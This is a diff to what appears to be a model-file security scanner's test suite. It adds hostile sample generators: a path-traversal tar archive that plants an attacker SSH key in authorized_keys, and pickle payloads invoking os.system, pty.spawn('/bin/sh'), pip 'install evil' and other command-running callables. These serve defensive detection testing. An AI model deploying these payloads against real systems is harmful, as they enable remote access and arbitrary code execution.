@@ -110,6 +110,20 @@ def _legacy_tar(path: Path) -> None:
             tar.addfile(info, io.BytesIO(data))
 
 
+def _tar_gz_traversal(path: Path) -> None:
+    """ONNX hub test data as a .tar.gz whose member climbs out of the extraction folder
+    (CVE-2024-5187: extracting it overwrites files anywhere)."""
+    import gzip
+
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as tar:
+        data = b"ssh-rsa AAAA attacker"
+        info = tarfile.TarInfo("../../.ssh/authorized_keys")
+        info.size = len(data)
+        tar.addfile(info, io.BytesIO(data))
+    path.write_bytes(gzip.compress(buffer.getvalue()))
+
+
 def _npy_object(path: Path) -> None:
     payload = _reduce_call("os", "system")
     header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
@@ -336,6 +350,25 @@ HOSTILE: tuple[Case, ...] = (
          "keras.external-code", "TorchModuleWrapper unpickling a module (CVE-2025-49655)"),
     Case("zip-flag-bits", "model.pt", _zip_flag_bits, "pickle.dangerous-global",
          "zip flag bits a zip reader refuses but PyTorch ignores (CVE-2025-1945)"),
+    Case("tar-gz-traversal", "test_data.tar.gz", _tar_gz_traversal, "tar.unsafe-entry",
+         "ONNX hub data archive climbing out of its folder (CVE-2024-5187)"),
+    Case("logging-filehandler", "model.pkl", _write(_reduce_call("logging", "FileHandler",
+                                                                 b"/tmp/planted")),
+         "pickle.dangerous-global", "logging.FileHandler creating files (CVE-2026-56304)"),
+    Case("uuid-command", "model.pkl", _write(_reduce_call("uuid", "_get_command_stdout")),
+         "pickle.dangerous-global", "uuid._get_command_stdout runs a command (CVE-2026-56315)"),
+    Case("imaplib-stream", "model.pkl", _write(_reduce_call("imaplib", "IMAP4_stream")),
+         "pickle.dangerous-global", "imaplib.IMAP4_stream runs a command (CVE-2026-56315)"),
+    Case("pyrepl-pager", "model.pkl", _write(_reduce_call("_pyrepl.pager", "pipe_pager")),
+         "pickle.dangerous-global", "_pyrepl.pager.pipe_pager runs a command (CVE-2026-56315)"),
+    Case("pydoc-locate", "model.pkl", _write(_reduce_call("pydoc", "locate", b"os.system")),
+         "pickle.dangerous-global", "pydoc.locate reaching any callable (fickling "
+         "CVE-2026-22608)"),
+    Case("cprofile-run", "model.pkl", _write(_reduce_call("cProfile", "run")),
+         "pickle.dangerous-global", "cProfile.run: a callable outside deny-lists (fickling, "
+         "modelscan advisories)"),
+    Case("pty-spawn", "model.pkl", _write(_reduce_call("pty", "spawn", b"/bin/sh")),
+         "pickle.dangerous-global", "pty.spawn: a callable outside deny-lists"),
     Case("pip-main", "model.pkl", _write(_reduce_call("pip", "main", b"install evil")),
          "pickle.dangerous-global", "pip.main installing a package (CVE-2025-1716)"),
     Case("pickle-as-bin", "pytorch_model.bin", _write(_reduce_call("os", "system")),
